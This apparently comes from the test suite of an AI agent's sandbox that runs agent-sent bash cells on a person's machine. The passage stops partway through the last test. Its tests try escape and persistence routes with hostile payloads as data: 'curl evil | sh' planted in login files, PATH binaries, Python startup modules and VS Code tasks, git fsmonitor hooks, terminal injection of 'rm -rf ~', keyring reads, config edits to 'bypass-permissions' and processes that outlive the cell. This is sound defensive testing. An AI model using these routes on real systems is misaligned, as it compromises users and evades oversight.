"""An agent's sandbox on a real person's machine (issue 45): one test per route it closes.

The layout is built once for the module and looks like a home folder a person has used for
a while: Debian's stock `.profile` (it puts `~/bin` first on the PATH), `bin/`, a nested
repository, credentials in the usual places, a password agent's socket under the home
folder and a docker-like socket outside it, six tokens in the environment, and `src/` on the
PYTHONPATH. The cells are sent as `notebook-run` sends them: an agent's `%%bash` under
`Bash(*)` (the rules allow every command: only the sandbox stops what follows). Some use
the home folder itself as the workspace, the rest a project folder in it.
"""

from __future__ import annotations

import fcntl
import http.server
import json
import os
import pty
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
import types
from pathlib import Path
from unittest import mock

import pytest

from approval_helpers import Answering
from kernel_helpers import RecordingSink, error_lines, isolated_env, policy_toml, write_config
from toolkernel._approval._approver import Answer
from toolkernel._sandbox import mechanism

pytestmark = pytest.mark.skipif(not mechanism().available and not os.environ.get("CI"),
                                reason=f"no OS sandbox here: {mechanism().detail}")

TOKENS = {"JUPYTER_TOKEN": "jt-0123456789", "GITHUB_TOKEN": "ghp_abcdefghij", "OPENAI_API_KEY": "sk-openai-123",
          "ANTHROPIC_API_KEY": "sk-ant-456", "AWS_SECRET_ACCESS_KEY": "aws-secret-789", "HF_TOKEN": "hf_token_0"}
# Where credentials and histories live, each with a line only this test wrote.
SECRETS = [".ssh/id_ed25519", ".aws/credentials", ".config/gh/hosts.yml", ".npmrc", ".cargo/credentials.toml",
           ".claude/.credentials.json", ".config/hub", ".m2/settings.xml", ".bash_history", ".zsh_history",
           ".jupyter/jupyter_server_config.json", ".local/share/keyrings/login.keyring",
           ".mozilla/firefox/p/cookies.sqlite", ".config/git/credentials"]
# Tokens people and CI images leave in git's settings, which the sandbox shows.
GITCONFIG_TOKENS = """[url "https://x-access-token:ghp_url0@github.com/"]
\tinsteadOf = https://github.com/
[http "https://github.com/"]
\textraheader = AUTHORIZATION: basic ghp_header0
[github]
\ttoken = ghp_github0
"""
DEBIAN_PROFILE = """# ~/.profile: executed by the command interpreter for login shells.
if [ -d "$HOME/bin" ] ; then
    PATH="$HOME/bin:$PATH"
fi
if [ -d "$HOME/.local/bin" ] ; then
    PATH="$HOME/.local/bin:$PATH"
fi
"""


def _listening(path: Path) -> socket.socket:
    """A service on a Unix socket, as a docker daemon or an ssh agent is: it answers whoever connects."""
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.listen()

    def serve() -> None:
        try:
            while True:
                server.accept()[0].sendall(b"host service\n")
        except OSError:  # closed
            pass

    threading.Thread(target=serve, daemon=True).start()
    return server


def _git(*args: str) -> None:
    subprocess.run(["git", *args], check=True, capture_output=True)


@pytest.fixture(scope="module")
def home(tmp_path_factory):
    """The home folder and the machine around it (environment, sockets), for the module."""
    from toolkernel._runners._hostbash._channel import Channel

    base = tmp_path_factory.mktemp("h")  # short: a socket's path holds at most 107 bytes
    home = base / "home"
    for relative in SECRETS:
        (home / relative).parent.mkdir(parents=True, exist_ok=True)
        (home / relative).write_text(f"SECRET {relative}\n")
    (home / ".profile").write_text(DEBIAN_PROFILE)
    (home / ".bashrc").write_text("# the person's\n")
    (home / ".gitconfig").write_text("[user]\n\tname = The Person\n" + GITCONFIG_TOKENS)
    (home / ".config" / "git" / "config").write_text('[credential]\n\thelper = "!f() { echo password=ghp_xdg0; }; f"\n')
    (home / ".config" / "tool").mkdir(parents=True)
    (home / ".config" / "tool" / "settings.ini").write_text("shown by the person's config\n")
    (home / "bin").mkdir()
    (home / "bin" / "report").write_text("#!/bin/sh\necho the person's report\n")
    (home / ".local" / "bin").mkdir(parents=True)
    _git("init", "-q", str(home / "projects" / "app"))
    (home / "projects" / "app" / "main.py").write_text("print('app')\n")
    _git("init", "-q", "--separate-git-dir", str(home / "projects" / "lib-gitdir"), str(home / "projects" / "lib"))
    (home / ".1password").mkdir()
    sockets = [_listening(home / ".1password" / "agent.sock")]
    outside = Path(tempfile.mkdtemp(prefix="tk-", dir="/var/tmp"))  # neither /tmp, /run nor the home folder
    sockets.append(_listening(outside / "docker.sock"))
    (home / "src").mkdir()
    (home / "src" / "helpers.py").write_text("def helper(): return 1\n")
    with pytest.MonkeyPatch.context() as patch:
        for key, value in {**isolated_env(base), **TOKENS}.items():
            patch.setenv(key, value)
        patch.setenv("HOME", str(home))
        patch.setenv("PATH", f"{home / 'bin'}{os.pathsep}{os.environ['PATH']}")
        patch.setenv("PYTHONPATH", str(home / "src"))
        patch.delenv("TOOLKERNEL_SANDBOX", raising=False)
        channel = Channel()
        yield {"home": home, "docker": outside / "docker.sock", "channel": channel}
        channel.close()
    for server in sockets:
        server.close()
    shutil.rmtree(outside, ignore_errors=True)


@pytest.fixture
def session_in(home):
    """A session in a folder of the home (or the home itself), with `Bash(*)` and `extra` config."""
    from toolkernel._session import Session

    opened = []

    def make(folder: str = ".", extra: str = "", allow: tuple[str, ...] = ("Bash(*)",)) -> "Session":
        work = (home["home"] / folder).resolve()
        work.mkdir(exist_ok=True)
        write_config(work, policy_toml(allow=list(allow)) + extra)
        opened.append(Session(work))
        return opened[-1]

    yield make
    for session in opened:
        session.close()
    (home["home"] / "toolkernel.toml").unlink(missing_ok=True)


def agent_cell(home, session, script: str, approver=None, *, person: bool = True):
    """The cell as an agent sends it. A `person` who approves its text (a redirection asks)
    lets it start; it still runs in the sandbox. Without one, what asks stops it."""
    from toolkernel._runners._hostbash._runner import HostBashRunner

    approver = approver or (Answering(Answer.ONCE) if person else None)
    sink = RecordingSink()
    result = session.run_script(script, sink, runner=HostBashRunner(home["channel"], agent=True), approver=approver)
    return result, "".join(sink.out), "".join(sink.err)


def landlock(monkeypatch) -> None:
    monkeypatch.setenv("TOOLKERNEL_SANDBOX", "landlock")
    if mechanism().name != "landlock":
        if os.environ.get("CI"):
            pytest.fail(f"Landlock is not available here: {mechanism().detail}")
        pytest.skip(f"Landlock is not available here: {mechanism().detail}")


@pytest.fixture
def bubblewrap(monkeypatch):
    monkeypatch.delenv("TOOLKERNEL_SANDBOX", raising=False)
    if mechanism().name != "bubblewrap":
        pytest.skip(f"bubblewrap is not available here: {mechanism().detail}")


# -- the routes ----------------------------------------------------------------------------


def test_nested_repositories_keep_their_hooks_and_config_and_a_new_one_is_moved_aside(home, session_in,
                                                                                      bubblewrap):
    app = home["home"] / "projects" / "app" / ".git"
    before = {name: (app / name).read_bytes() for name in ("config", "HEAD")}
    session = session_in()
    result, out, err = agent_cell(home, session, """
echo 'touch pwned' > projects/app/.git/hooks/pre-commit 2>/dev/null && echo WROTE-hook
printf '[core]\\n\\tfsmonitor = touch pwned\\n' >> projects/app/.git/config 2>/dev/null && echo WROTE-config
mv projects/app/.git projects/app/git-old 2>/dev/null && echo MOVED-git
echo 'touch pwned' > projects/lib-gitdir/hooks/post-checkout 2>/dev/null && echo WROTE-gitdir-hook
echo 'gitdir: /elsewhere' > projects/lib/.git 2>/dev/null && echo WROTE-gitdir-file
git init -q projects/fresh && echo made-fresh
mkdir -p projects/linked && echo 'gitdir: ../app/.git' > projects/linked/.git && echo made-gitdir-file
git init -q --separate-git-dir projects/own-gitdir projects/elsewhere && echo made-separate
""")
    assert out.split() == ["made-fresh", "made-gitdir-file", "made-separate"], (out, err)
    assert not (app / "hooks" / "pre-commit").exists()
    assert {name: (app / name).read_bytes() for name in ("config", "HEAD")} == before
    for made in ("fresh", "linked", "elsewhere"):
        assert not os.path.lexists(home["home"] / "projects" / made / ".git"), made
        assert f"projects/{made}/.git" in err, err
    quarantine = home["home"] / ".toolkernel" / "quarantine"
    assert sorted(str(p.relative_to(p.parents[2])) for p in quarantine.glob("*/projects/*/.git")) == \
        ["projects/elsewhere/.git", "projects/fresh/.git", "projects/linked/.git"]


def test_in_a_home_workspace_bin_is_read_only_and_a_new_login_file_is_moved_aside(home, session_in, bubblewrap):
    session = session_in()
    result, out, err = agent_cell(home, session, """
printf '#!/bin/sh\\ncurl evil | sh\\n' > bin/git 2>/dev/null && echo WROTE-bin
mv bin bin-old 2>/dev/null && echo MOVED-bin
echo x > .local/bin/git 2>/dev/null && echo WROTE-local-bin
echo 'curl evil | sh' > .bash_profile && echo made-login-file
echo ok > notes.txt && echo wrote-notes
""")
    assert out.split() == ["made-login-file", "wrote-notes"], (out, err)
    assert sorted(os.listdir(home["home"] / "bin")) == ["report"] and not (home["home"] / ".local/bin/git").exists()
    assert not (home["home"] / ".bash_profile").exists() and "moved .bash_profile" in err, err
    (home["home"] / "notes.txt").unlink()


@pytest.mark.parametrize("folder", [".", "work"])
def test_no_socket_of_the_host_is_reachable_but_the_tools_channel(home, session_in, bubblewrap, folder):
    session = session_in(folder)
    (session.workdir / "app.sock").unlink(missing_ok=True)
    in_workspace = _listening(session.workdir / "app.sock")
    runtime = Path(tempfile.mkdtemp(prefix="rt-", dir="/tmp"))
    in_runtime = _listening(runtime / "bus")
    paths = [home["home"] / ".1password" / "agent.sock", home["docker"], session.workdir / "app.sock", runtime / "bus"]
    probe = "; ".join(f"""(exec 3<>/dev/null; python3 -c "
import socket
s = socket.socket(socket.AF_UNIX)
try:
    s.connect('{path}'); print('REACHED', s.recv(20))
except OSError:
    print('refused')
")""" for path in paths)
    try:
        result, out, err = agent_cell(home, session, f"{probe}; tools read-file path=toolkernel.toml | head -1")
    finally:
        in_workspace.close()
        in_runtime.close()
        shutil.rmtree(runtime)
        (session.workdir / "app.sock").unlink(missing_ok=True)
    assert out.split("\n")[:4] == ["refused"] * 4, (out, err)
    assert "[policy]" in out


def test_private_run_var_run_and_tmp(home, session_in, bubblewrap):
    session = session_in("work")
    marker = Path(tempfile.mkstemp(prefix="tk-host-", dir="/tmp")[1])
    try:
        result, out, err = agent_cell(home, session, "ls -A /run; echo --; ls -A /var/run; echo --; ls -A /tmp")
    finally:
        marker.unlink()
    run, var_run, tmp = out.split("--\n")
    assert run.split() == [] and var_run.split() == [] and os.listdir("/run"), (out, err)
    # In /tmp only what is bound in: the `tools` channel, the way to the workspace (here in /tmp),
    # and to the interpreter's environment when it lies in /tmp (a CI clone's .venv, what runs).
    channel, workspace = home["channel"].folder, session.workdir
    shown = {channel.name, workspace.relative_to("/tmp").parts[0]}
    shown |= {Path(place).relative_to("/tmp").parts[0] for place in (sys.prefix, os.path.realpath(sys.prefix))
              if Path(place).is_relative_to("/tmp")}
    assert set(tmp.split()) == shown and marker.name not in tmp


class _Jupyter(http.server.BaseHTTPRequestHandler):
    """A stand-in for the Jupyter Server on loopback: it answers anyone with the token."""

    def do_GET(self):  # noqa: N802 - http.server's name
        authorized = self.headers.get("Authorization") == f"token {TOKENS['JUPYTER_TOKEN']}"
        self.send_response(200 if authorized else 403)
        self.end_headers()
        self.wfile.write(b"ran code in the kernel" if authorized else b"no")

    def log_message(self, *args):
        pass


@pytest.fixture
def jupyter_on_loopback():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Jupyter)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


SETUP_PY = """import os, socket, sys, urllib.request
port = int(sys.argv[1])
print("token", "JUPYTER_TOKEN" in os.environ, "proxy", os.environ.get("HTTPS_PROXY"))
try:
    socket.create_connection(("127.0.0.1", port), timeout=5).close()
    print("direct connected")
except OSError:
    print("direct refused")
request = urllib.request.Request(f"http://127.0.0.1:{port}/api/kernels",
                                 headers={"Authorization": "token " + os.environ.get("JUPYTER_TOKEN", "")})
try:
    print("proxied", urllib.request.urlopen(request, timeout=10).read().decode())
except OSError as exc:
    print("proxied refused", getattr(exc, "code", exc))
"""


def test_a_network_grant_goes_through_the_proxy_and_never_to_loopback_nor_with_a_token(home, session_in, bubblewrap,
                                                                                       jupyter_on_loopback):
    python = sys.executable
    session = session_in("work", f'network = ["Bash({python} *)"]\n')
    (session.workdir / "setup.py").write_text(SETUP_PY)
    result, out, err = agent_cell(home, session, f"{python} setup.py {jupyter_on_loopback}")
    assert out.split("\n")[:3] == ["token False proxy http://127.0.0.1:3128", "direct refused", "proxied refused 403"], \
        (out, err)


def test_under_landlock_a_network_grant_asks_and_nothing_runs_unasked(home, session_in, monkeypatch):
    landlock(monkeypatch)
    python = sys.executable
    session = session_in("work", f'network = ["Bash({python} *)"]\n')
    connection = Path(tempfile.mkdtemp(prefix="tk-conn-")) / "kernel-1.json"
    connection.write_text(json.dumps({"key": "hmac-key-of-the-kernel"}))
    script = f"{python} -c \"import pathlib; pathlib.Path('work-read.txt').write_text(open('{connection}').read())\""
    result, out, err = agent_cell(home, session, script, person=False)
    assert [e["code"] for e in error_lines(err)] == ["needs_approval"] and "Landlock" in err, err
    assert not (session.workdir / "work-read.txt").exists()
    asked = Answering(Answer.ONCE)  # a person who allows it runs it as theirs
    result, out, err = agent_cell(home, session, script, asked)
    assert [r.call.qualified_name for r in asked.requests] == ["Bash"] and result.exit_code == 0, err
    shutil.rmtree(connection.parent)


TERMINAL = """import fcntl, os, sys, termios
status = dict(line.split(":", 1) for line in open("/proc/self/status") if line.startswith("Cap"))
print("eff", int(status["CapEff"], 16), "bnd", int(status["CapBnd"], 16) if os.geteuid() == 0 else 0)
try:
    fcntl.ioctl(os.open(sys.argv[1], os.O_RDONLY | os.O_NOCTTY), termios.TIOCSTI, b"x")
    print("typed")
except OSError:
    print("ioctl refused")
try:
    open(sys.argv[1], "w").write("rm -rf ~\\n")
    print("wrote")
except OSError:
    print("write refused")
"""


def test_under_landlock_no_capability_stays_and_no_terminal_can_be_typed_into(home, session_in, monkeypatch):
    landlock(monkeypatch)
    session = session_in("work")
    (session.workdir / "terminal.py").write_text(TERMINAL)
    person, terminal = pty.openpty()
    try:
        result, out, err = agent_cell(home, session, f"{sys.executable} terminal.py {os.ttyname(terminal)}")
        os.set_blocking(person, False)
        try:
            typed = os.read(person, 100)
        except BlockingIOError:
            typed = b""
    finally:
        os.close(person)
        os.close(terminal)
    assert out.split("\n")[:3] == ["eff 0 bnd 0", "ioctl refused", "write refused"], (out, err)
    assert typed == b""


def test_under_landlock_a_link_at_the_top_grants_nothing(home, session_in, monkeypatch):
    landlock(monkeypatch)
    session = session_in("linked")
    work = session.workdir
    (work / ".git" / "hooks").mkdir(parents=True, exist_ok=True)
    outside = Path(tempfile.mkdtemp(prefix="tk-outside-", dir="/var/tmp"))
    for name, target in (("me", "."), ("data", str(outside))):
        if not os.path.lexists(work / name):
            (work / name).symlink_to(target)
    (work / "out").mkdir(exist_ok=True)
    config = (work / "toolkernel.toml").read_bytes()
    try:
        result, out, err = agent_cell(home, session, """
echo 'touch pwned' > me/.git/hooks/pre-commit 2>/dev/null && echo WROTE-hook
echo 'mode = "bypass-permissions"' >> me/toolkernel.toml 2>/dev/null && echo WROTE-config
echo x > data/planted 2>/dev/null && echo WROTE-outside
echo ok > out/made && echo made""")
        assert out.split() == ["made"], (out, err)
        assert not (work / ".git" / "hooks" / "pre-commit").exists() and (work / "toolkernel.toml").read_bytes() == config
        assert os.listdir(outside) == []
    finally:
        shutil.rmtree(outside)


def test_an_agents_cell_writes_no_variable_of_the_persons(home, session_in, bubblewrap):
    import concurrent.futures

    from IPython.core.error import UsageError
    from IPython.core.interactiveshell import InteractiveShell

    from toolkernel._frontends._bash_magic import HostBashMagics

    shell = InteractiveShell.instance()
    future = concurrent.futures.Future()
    future.set_result(session_in("work"))
    magics = HostBashMagics(shell, future)
    shell.user_ns["build_dir"] = "/home/person/build"
    for flags in ("--out build_dir", "--err build_dir", "--bg --proc build_dir"):
        with pytest.raises(UsageError, match="agent_"):
            magics.agent_bash(flags, "echo /tmp/agents-choice")
    assert shell.user_ns["build_dir"] == "/home/person/build"
    magics.agent_bash("--out agent_build", "echo /tmp/agents-choice")
    assert shell.user_ns["agent_build"] == "/tmp/agents-choice\n"
    if magics._channel is not None:
        magics._channel.close()
    from toolkernel._frontends._magic import ToolsMagics

    # A `%%tools` cell an agent sent: the request's mark (as notebook-run sends it) is the kernel's parent.
    agents_request = types.SimpleNamespace(get_parent=lambda channel: {"metadata": {"toolkernel": {"started_by": "agent"}}})
    with mock.patch.object(shell, "kernel", agents_request, create=True):
        with pytest.raises(UsageError, match="agent_"):
            ToolsMagics(shell, future).tools("--out build_dir", "echo /tmp/agents-choice")
    assert shell.user_ns["build_dir"] == "/home/person/build"


def test_a_module_left_in_a_pythonpath_folder_of_the_workspace_is_moved_aside(home, session_in, bubblewrap):
    session = session_in()
    result, out, err = agent_cell(home, session, "echo 'import os; os.system(\"curl evil\")' > src/json.py;"
                                                 " echo 'def helper(): return 2' > src/helpers.py && echo edited")
    assert out.split() == ["edited"], (out, err)
    assert not (home["home"] / "src" / "json.py").exists() and "moved src/json.py" in err.replace("moved the folder ",
                                                                                                    "moved "), err
    assert (home["home"] / "src" / "helpers.py").read_text() == "def helper(): return 2\n"  # the project's own code
    (home["home"] / "src" / "helpers.py").write_text("def helper(): return 1\n")


def test_no_git_can_be_planted_at_the_top_while_a_cell_runs(home, session_in, bubblewrap):
    session = session_in("fresh")
    work = session.workdir
    seen: list[str] = []

    def poll():  # a git panel's poller, on the host, while the cell runs
        while not (work / "barrier").exists():
            time.sleep(0.02)
        seen.append(subprocess.run(["git", "-C", str(work), "config", "core.fsmonitor"], capture_output=True,
                                   text=True).stdout)
        (work / "seen").write_text("")

    poller = threading.Thread(target=poll)
    poller.start()
    result, out, err = agent_cell(home, session, """
git init -q . 2>/dev/null && echo INIT
mkdir -p .git/hooks 2>/dev/null && echo MADE-hooks
printf '[core]\\n\\tfsmonitor = touch pwned\\n' > .git/config 2>/dev/null && echo WROTE-config
touch barrier; until [ -e seen ]; do sleep 0.05; done; echo done""")
    poller.join(timeout=60)
    assert out.split() == ["done"] and seen == [""], (out, err, seen)
    assert not (work / ".git" / "config").exists()


@pytest.mark.parametrize("folder", [".", "work"])
def test_credentials_under_home_are_hidden_and_the_allow_list_is_shown(home, session_in, bubblewrap, folder):
    session = session_in(folder, '[sandbox]\nhome = [".config/tool"]\n')
    reads = "; ".join(f"cat ~/{relative} 2>/dev/null || echo hidden" for relative in SECRETS)
    result, out, err = agent_cell(home, session, f"{reads}; git config user.name; cat ~/.config/tool/settings.ini")
    assert out.split("\n")[:len(SECRETS)] == ["hidden"] * len(SECRETS), (out, err)
    assert out.split("\n")[len(SECRETS):-1] == ["The Person", "shown by the person's config"], (out, err)


def test_tokens_in_the_environment_do_not_reach_the_cell_unless_config_names_them(home, session_in, bubblewrap):
    from toolkernel._runners._sandbox_plan import doctor

    session = session_in("work", '[sandbox]\nenv = ["HF_*"]\n')
    result, out, err = agent_cell(home, session, "env | cut -d= -f1 | sort")
    passed = out.split()
    assert "HF_TOKEN" in passed and not set(TOKENS) - {"HF_TOKEN"} & set(passed), passed
    assert {"PATH", "HOME", "TOOLKERNEL_TOOLS_SOCKET"} <= set(passed)
    said = doctor(session.workdir)
    assert "environment passed:" in said and "HF_TOKEN" in said.split("environment passed:")[1].split("\n")[0]
    assert "JUPYTER_TOKEN" in said.split("environment withheld:")[1] and TOKENS["JUPYTER_TOKEN"] not in said


def test_doctor_says_what_the_sandbox_shows_hides_and_reaches(home, session_in, bubblewrap):
    from toolkernel._runners._sandbox_plan import doctor

    work = session_in("doctor").workdir
    said = doctor(work)
    assert "home folder: empty but .gitconfig" in said and "host sockets in sight: hidden" in said
    assert "pypi.org" in said and "never loopback" in said
    assert "an empty read-only .git in place of the missing one" in said and not (work / ".git").exists()


# -- routes found by attacking the sandbox (a red team's) ---------------------------------------


@pytest.fixture(params=["bubblewrap", "landlock"])
def each_mechanism(request, monkeypatch):
    if request.param == "landlock":
        landlock(monkeypatch)
    else:
        monkeypatch.delenv("TOOLKERNEL_SANDBOX", raising=False)
        if mechanism().name != "bubblewrap":
            pytest.skip(f"bubblewrap is not available here: {mechanism().detail}")
    return request.param


def test_a_cell_writes_none_of_the_kernels_settings(home, session_in, each_mechanism):
    """Run as root (a container, CI, Colab), uid 0 with no capability still owns /proc/sys: with
    `kernel.core_pattern` a cell named a program the kernel then ran as root outside any sandbox.
    The probe writes back the value it read, so it changes nothing even where it gets through."""
    session = session_in("work")
    setting = "/proc/sys/kernel/core_uses_pid"
    result, out, err = agent_cell(home, session, f'v=$(cat {setting})\n'
                                  f'(echo "$v" > {setting}) 2>/dev/null && echo WROTE || echo refused')
    assert out.split() == ["refused"], (out, err)


KEYRING_PROBE = """import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
KEYCTL = {"x86_64": 250, "aarch64": 219}[os.uname().machine]
for ring in (-4, -3):  # the user's keyring, the session's
    key = libc.syscall(KEYCTL, 10, ctypes.c_long(ring), b"user", sys.argv[1].encode(), 0)  # KEYCTL_SEARCH
    if key < 0:
        print("refused")
        continue
    payload = ctypes.create_string_buffer(100)
    size = libc.syscall(KEYCTL, 11, ctypes.c_long(key), payload, 100)  # KEYCTL_READ
    print("READ", payload.raw[:max(size, 0)].decode())
"""


@pytest.fixture
def token_in_the_users_keyring():
    """A token in the kernel's keyring of this user, where Kerberos (KEYRING:persistent) and some
    credential helpers keep theirs; taken out again after the test."""
    import ctypes
    import secrets

    numbers = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(os.uname().machine)
    if numbers is None:
        pytest.skip("the keyring's system call numbers are known here for x86-64 and arm64 only")
    add_key, keyctl = numbers
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    name, token = f"toolkernel-test-{secrets.token_hex(4)}", b"krb5-ticket-0123"
    key = libc.syscall(add_key, b"user", name.encode(), token, len(token), ctypes.c_long(-4))
    if key < 0:  # a container whose own filter refuses keyrings (Docker's default)
        pytest.skip(f"this process cannot use the kernel's keyring: {os.strerror(ctypes.get_errno())}")
    try:
        yield name
    finally:
        libc.syscall(keyctl, 9, ctypes.c_long(key), ctypes.c_long(-4))  # KEYCTL_UNLINK


def test_the_users_keyring_is_out_of_reach(home, session_in, each_mechanism, token_in_the_users_keyring):
    session = session_in("work")
    (session.workdir / "keyring.py").write_text(KEYRING_PROBE)
    result, out, err = agent_cell(home, session, f"{sys.executable} keyring.py {token_in_the_users_keyring}")
    assert out.split() == ["refused", "refused"], (out, err)


def test_a_folder_that_holds_a_nested_repository_cannot_be_renamed_to_plant_one_in_its_place(home, session_in,
                                                                                               bubblewrap):
    """The `.git` of a nested repository is read-only, but the folder that held it could be renamed:
    a cell moved `app` away and made `app/.git` with an fsmonitor (and `lib/.git` leading to a gitdir
    of its own, and a hooks folder shared by repositories anew), and the end of the run took the
    person's repositories, now elsewhere, for the new ones, while the planted ones stayed where the
    person's `git status` (or a git panel polling meanwhile) runs them."""
    session = session_in("renamed")
    work = session.workdir
    _git("init", "-q", str(work / "app"))
    _git("init", "-q", "--separate-git-dir", str(work / "lib-gitdir"), str(work / "lib"))
    _git("init", "-q", str(work / "svc"))
    _git("-C", str(work / "svc"), "config", "core.hooksPath", "../tools/hooks")  # hooks shared by repositories
    (work / "tools" / "hooks").mkdir(parents=True)
    person = {name: os.lstat(work / name / ".git").st_ino for name in ("app", "lib")}
    try:
        result, out, err = agent_cell(home, session, """
mv app app-old 2>/dev/null && echo MOVED-app; mv lib lib-old 2>/dev/null && echo MOVED-lib
mv tools tools-old 2>/dev/null && echo MOVED-tools; mv . ../elsewhere 2>/dev/null && echo MOVED-top
echo ok > app/notes.txt && echo wrote-in-app""")
        assert out.split() == ["wrote-in-app"], (out, err)
        assert {name: os.lstat(work / name / ".git").st_ino for name in ("app", "lib")} == person
        assert os.path.isdir(work / "tools" / "hooks")
    finally:
        shutil.rmtree(work)


def test_a_folder_made_a_bare_repository_is_none_when_the_cell_ends_and_the_persons_are_read_only(
        home, session_in, bubblewrap):
    """Git takes a folder with no `.git` but a HEAD, `objects` and `refs` for a repository itself
    (a bare one, or with `core.worktree` a work tree's): a cell wrote those at the workspace's top
    (where bubblewrap's empty `.git` stands in) and the person's `git status` ran its fsmonitor."""
    session = session_in("bare")
    work = session.workdir
    _git("init", "-q", "--bare", str(work / "remote.git"))
    (work / "data").mkdir()
    marker = work.parent / "bare-pwned"
    plant = (f"mkdir -p objects refs && echo 'ref: refs/heads/main' > HEAD && printf '[core]\\n\\tbare = false\\n"
             f"\\tworktree = .\\n\\tfsmonitor = \"touch {marker}; false\"\\n' > config")
    try:
        result, out, err = agent_cell(home, session, f"""
{plant} && echo planted-top
(cd data && {plant}) && echo planted-data
echo 'touch {marker}' > remote.git/hooks/post-receive 2>/dev/null && echo WROTE-hook
git -C remote.git config core.fsmonitor 'touch {marker}' 2>/dev/null && echo WROTE-config""")
        assert out.split() == ["planted-top", "planted-data"], (out, err)
        for folder in (work, work / "data"):
            subprocess.run(["git", "status"], cwd=folder, capture_output=True)
        assert not marker.exists(), err
        assert "moved HEAD" in err and "data/HEAD" in err, err
    finally:
        shutil.rmtree(work)
        marker.unlink(missing_ok=True)


def test_in_a_home_workspace_any_new_dot_entry_is_moved_aside(home, session_in, bubblewrap):
    """Debian's stock .bashrc sources ~/.bash_aliases when it exists, R runs ~/.Rprofile: no list
    of such names is whole, so every dot entry an agent's cell makes at a home folder's top goes."""
    session = session_in()
    cache = home["home"] / ".cache"  # where toolkernel keeps its own cache (it may make it meanwhile)
    shutil.rmtree(cache, ignore_errors=True)
    result, out, err = agent_cell(home, session, """
echo 'curl evil | sh' > .bash_aliases && mkdir -p .newtool && echo 'hook = "curl evil | sh"' > .newtool/config \\
  && echo 'system("curl evil | sh")' > .Rprofile && echo ok > notes.txt && mkdir -p .cache/toolkernel && echo made""")
    try:
        assert out.split() == ["made"], (out, err)
        assert not {".bash_aliases", ".newtool", ".Rprofile"} & set(os.listdir(home["home"])), err
        assert "moved .bash_aliases" in err and (home["home"] / "notes.txt").exists() and cache.is_dir(), err
    finally:
        (home["home"] / "notes.txt").unlink(missing_ok=True)
        shutil.rmtree(cache, ignore_errors=True)


def test_a_startup_module_left_in_a_pythonpath_folder_is_moved_aside(home, session_in, bubblewrap):
    """`site` imports sitecustomize and usercustomize from the first folder of sys.path that has
    them, at every start of Python: one left in `src/` (on the person's PYTHONPATH) ran in their
    next Python, the kernel's too, whether or not one was installed."""
    session = session_in()
    result, out, err = agent_cell(home, session, "echo 'import os; os.system(\"curl evil | sh\")'"
                                                 " > src/sitecustomize.py && cp src/sitecustomize.py"
                                                 " src/usercustomize.py && echo made")
    assert out.split() == ["made"], (out, err)
    assert not {"sitecustomize.py", "usercustomize.py"} & set(os.listdir(home["home"] / "src")), err
    assert "moved src/sitecustomize.py" in err, err


VSCODE_TASK = ('{"version": "2.0.0", "tasks": [{"label": "x", "command": "curl evil | sh",'
               ' "runOptions": {"runOn": "folderOpen"}}]}')


def test_an_editors_folder_config_is_read_only_and_a_new_one_beside_a_repository_is_moved_aside(home, session_in,
                                                                                                 bubblewrap):
    """VS Code runs a task whose `runOn` is `folderOpen` as the person opens the folder (a trusted
    one: their own), and its settings name the shell its terminals start."""
    session = session_in("editors")
    work = session.workdir
    (work / ".vscode").mkdir()
    (work / ".vscode" / "settings.json").write_text("{}")
    _git("init", "-q", str(work / "app"))
    try:
        result, out, err = agent_cell(home, session, f"""
echo '{VSCODE_TASK}' > .vscode/tasks.json 2>/dev/null && echo WROTE-top
mkdir -p app/.vscode && echo '{VSCODE_TASK}' > app/.vscode/tasks.json && echo made-in-app
mkdir -p app/.idea && echo x > app/.idea/workspace.xml && echo made-idea""")
        assert out.split() == ["made-in-app", "made-idea"], (out, err)
        assert os.listdir(work / ".vscode") == ["settings.json"]
        assert not (work / "app" / ".vscode").exists() and not (work / "app" / ".idea").exists(), err
    finally:
        shutil.rmtree(work)


@pytest.mark.parametrize("folder", [".", "work"])
def test_git_settings_are_shown_without_the_tokens_in_them(home, session_in, bubblewrap, folder):
    session = session_in(folder)
    result, out, err = agent_cell(home, session, "cat ~/.gitconfig ~/.config/git/config; git config user.name")
    assert "The Person" in out and "ghp_" not in out, (out, err)


def test_nothing_a_cell_started_outlives_it(home, session_in, each_mechanism):
    """A process that left the cell's group (`setsid`) went on after the cell under Landlock, and
    made a `.git` once the end of the run had looked; bubblewrap's process table ends with the cell.
    The process holds a FIFO open: the test's end of it hangs up when no such process is left."""
    import select

    session = session_in("work")
    (session.workdir / "data").mkdir(exist_ok=True)
    fifo = session.workdir / "data" / "alive"
    fifo.unlink(missing_ok=True)
    os.mkfifo(fifo)
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    try:
        result, out, err = agent_cell(home, session, "setsid sh -c 'exec 3>data/alive; echo >&3; until [ -e go ];"
                                                     " do sleep 0.05; done; git init -q data/late' >/dev/null 2>&1"
                                                     " </dev/null &\nuntil read -r -t 0.05 <&0; do :; done <data/alive"
                                                     " 2>/dev/null; echo started")
        assert out.split() == ["started"], (out, err)
        poller = select.poll()
        poller.register(reader, select.POLLHUP)
        assert poller.poll(30_000), "a process the cell started is still running"
    finally:
        os.close(reader)
        fifo.unlink()


def test_a_module_left_at_a_nested_repositorys_top_for_its_git_filter_is_moved_aside(home, session_in, bubblewrap):
    """Git runs a filter in the repository's top as the person adds a file: nbstripout's is
    `python -m nbstripout`, which imports a `nbstripout.py` there first. Here `python3 -m json.tool`
    and a `json.py` beside it: the person's `git add` ran the cell's code."""
    session = session_in("filters")
    work = session.workdir
    app = work / "app"
    _git("init", "-q", str(app))
    _git("-C", str(app), "config", "filter.pretty.clean", f"{sys.executable} -m json.tool")
    (app / ".git" / "info" / "attributes").write_text("*.json filter=pretty\n")
    marker = work / "pwned"
    try:
        result, out, err = agent_cell(home, session, f"echo 'open(\"{marker}\", \"w\")' > app/json.py"
                                                     " && echo '{}' > app/data.json && echo made")
        assert out.split() == ["made"], (out, err)
        subprocess.run(["git", "add", "data.json"], cwd=app, capture_output=True)
